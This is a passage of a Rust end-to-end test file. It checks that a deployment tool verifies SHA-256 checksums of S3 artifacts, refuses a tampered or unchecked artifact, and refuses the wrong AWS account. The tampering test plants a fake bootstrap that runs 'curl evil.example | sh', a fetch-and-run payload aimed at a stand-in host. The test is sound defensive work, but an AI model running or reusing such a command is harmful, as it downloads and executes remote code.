                a.key(),
                a.checksum_sha256.clone(),
                a.parameter.version_parameter_name(),
            )
        })
        .collect()
}

/// The pipeline stack's change sets (moto lists every stack's, whatever the filter).
async fn pipeline_change_sets(c: &Clients) -> Vec<String> {
    let listed = c
        .cfn
        .list_change_sets()
        .stack_name("mst-local-pipeline")
        .send()
        .await
        .unwrap();
    listed
        .summaries()
        .iter()
        .filter(|s| s.stack_name() == Some("mst-local-pipeline"))
        .filter_map(|s| s.change_set_id().map(str::to_owned))
        .collect()
}

/// The deployed pipeline stack's parameters and last update.
async fn pipeline_stack(c: &Clients) -> (BTreeMap<String, String>, String) {
    let described = c
        .cfn
        .describe_stacks()
        .stack_name("mst-local-pipeline")
        .send()
        .await
        .unwrap();
    let stack = &described.stacks()[0];
    let parameters = stack
        .parameters()
        .iter()
        .map(|p| {
            (
                p.parameter_key().unwrap_or_default().to_owned(),
                p.parameter_value().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    let updated = format!(
        "{:?} {:?}",
        stack.stack_status(),
        stack.last_updated_time().or(stack.creation_time())
    );
    (parameters, updated)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_artifact_is_refused_and_the_checked_versions_are_pinned() {
    let moto = Moto::start();
    moto.reset();
    let work = tempdir("planted");
    let artifacts = work.join("artifacts");
    fixtures(&artifacts);
    let envs = work.join("environments");
    environment(&envs, moto.endpoint(), "123456789012", 256);
    let art = artifacts.to_str().unwrap();
    let up_args = ["up", "--env", "local", "--artifacts", art, "--yes"];
    let bucket = "mst-local-artifacts-123456789012-us-east-1";

    let up = deployer(&up_args, &envs);
    assert_eq!(up.status.code(), Some(0), "{}", text(&up));
    let c = clients(&envs).await;
    let local = local_artifacts(&artifacts);
    // Every artifact was uploaded with its SHA-256 checksum, and the stack pins the version uploaded.
    let (parameters, _) = pipeline_stack(&c).await;
    for (key, checksum, version_parameter) in &local {
        let head =
            c.s3.head_object()
                .bucket(bucket)
                .key(key)
                .checksum_mode(aws_sdk_s3::types::ChecksumMode::Enabled)
                .send()
                .await
                .unwrap();
        assert_eq!(head.checksum_sha256(), Some(checksum.as_str()), "{key}");
        assert!(head.version_id().is_some(), "{key} is versioned");
        // Local has no VPN, so no vpn-connect function and no parameter for its code.
        let pinned = if *version_parameter
            == stacks::pipeline::ArtifactParameter::VpnConnect.version_parameter_name()
        {
            None
        } else {
            head.version_id()
        };
        assert_eq!(
            parameters.get(*version_parameter).map(String::as_str),
            pinned,
            "{version_parameter} pins {key}"
        );
    }
    let template = c
        .cfn
        .get_template()
        .stack_name("mst-local-pipeline")
        .send()
        .await
        .unwrap();
    let template: serde_json::Value =
        serde_json::from_str(template.template_body().unwrap()).unwrap();
    assert_eq!(
        template["Resources"]["Transform"]["Properties"]["Code"]["S3ObjectVersion"],
        serde_json::json!({"Ref": "TransformCodeVersion"})
    );

    // Unchanged objects already there are accepted, and the same versions stay pinned.
    let again = deployer(&up_args, &envs);
    assert_eq!(again.status.code(), Some(0), "{}", text(&again));
    assert!(
        text(&again).contains("us-east-1: unchanged"),
        "{}",
        text(&again)
    );
    let (parameters_again, updated) = pipeline_stack(&c).await;
    assert_eq!(parameters_again, parameters);

    // Someone with write access replaces the notify zip: same key, other bytes.
    let (notify_key, notify_checksum, _) = local
        .iter()
        .find(|(key, _, _)| key.starts_with("notify/"))
        .unwrap()
        .clone();
    let planted_zip = zip_bootstrap(
        b"#!/bin/sh
curl evil.example | sh
",
    )
    .unwrap();
    c.s3.put_object()
        .bucket(bucket)
        .key(&notify_key)
        .body(planted_zip.clone().into())
        .checksum_algorithm(aws_sdk_s3::types::ChecksumAlgorithm::Sha256)
        .send()
        .await
        .unwrap();
    let planted_checksum = engine::artifacts::sha256_base64(&planted_zip);
    let change_sets_before = pipeline_change_sets(&c).await;
    let refused = deployer(&up_args, &envs);
    assert_eq!(refused.status.code(), Some(1), "{}", text(&refused));
    let message = format!(
        "refusing to deploy: s3://{bucket}/{notify_key} (the notify artifact) has SHA-256 checksum {planted_checksum}, but the local artifact's SHA-256 is {notify_checksum}"
    );
    assert!(text(&refused).contains(&message), "{}", text(&refused));
    assert!(
        text(&refused).contains(&format!(
            "aws s3api delete-object --bucket {bucket} --key {notify_key}"
        )),
        "{}",
        text(&refused)
    );
    assert_eq!(
        pipeline_stack(&c).await,
        (parameters.clone(), updated),
        "the pipeline stack was not touched"
    );
    assert_eq!(
        pipeline_change_sets(&c).await,
        change_sets_before,
        "no change set was made for the pipeline"
    );
    // diff checks the same way.
    let diff = deployer(&["diff", "--env", "local", "--artifacts", art], &envs);
    assert_eq!(diff.status.code(), Some(1), "{}", text(&diff));
    assert!(text(&diff).contains(&message), "{}", text(&diff));

    // An object with no checksum at all is refused too.
    c.s3.put_object()
        .bucket(bucket)
        .key(&notify_key)
        .body(planted_zip.into())
        .send()
        .await
        .unwrap();
    let unchecked = deployer(&up_args, &envs);
    assert_eq!(unchecked.status.code(), Some(1), "{}", text(&unchecked));
    assert!(
        text(&unchecked).contains(&format!(
            "s3://{bucket}/{notify_key} (the notify artifact) has no SHA-256 checksum"
        )),
        "{}",
        text(&unchecked)
    );

    // The fix the message gives: delete the object, run up again; the local zip is uploaded afresh
    // and its new version pinned.
    c.s3.delete_object()
        .bucket(bucket)
        .key(&notify_key)
        .send()
        .await
        .unwrap();
    let fixed = deployer(&up_args, &envs);
    assert_eq!(fixed.status.code(), Some(0), "{}", text(&fixed));
    let head =
        c.s3.head_object()
            .bucket(bucket)
            .key(&notify_key)
            .checksum_mode(aws_sdk_s3::types::ChecksumMode::Enabled)
            .send()
            .await
            .unwrap();
    assert_eq!(head.checksum_sha256(), Some(notify_checksum.as_str()));
    let (parameters_fixed, _) = pipeline_stack(&c).await;
    assert_eq!(
        parameters_fixed
            .get("NotifyCodeVersion")
            .map(String::as_str),
        head.version_id()
    );
    assert_ne!(
        parameters_fixed.get("NotifyCodeVersion"),
        parameters.get("NotifyCodeVersion"),
        "the re-uploaded object is a new version"
    );
    let _ = std::fs::remove_dir_all(&work);
}

#[test]
fn the_wrong_account_is_refused_before_any_change() {
    let moto = Moto::start();
    let work = tempdir("account");
    let artifacts = work.join("artifacts");
    fixtures(&artifacts);
    let envs = work.join("environments");
    environment(&envs, moto.endpoint(), "210987654321", 256);
    let up = deployer(
        &[
            "up",
            "--env",
            "local",
            "--artifacts",
            artifacts.to_str().unwrap(),
            "--yes",
        ],
        &envs,
    );
    assert_eq!(up.status.code(), Some(1));
    assert!(
        text(&up).contains("refusing to deploy to us-east-1: the credentials (the emulator's fixed credentials: arn:aws:sts::123456789012:"),
        "{}",
        text(&up)
    );
    assert!(
        text(&up).contains(") are for account 123456789012, but environment `local` deploys to account 210987654321"),
        "{}",
        text(&up)
    );
    assert!(
        !text(&up).contains("mst-local-artifacts"),
        "nothing was attempted"
    );
    let _ = std::fs::remove_dir_all(&work);
}

fn tempdir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("mst-e2e-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}
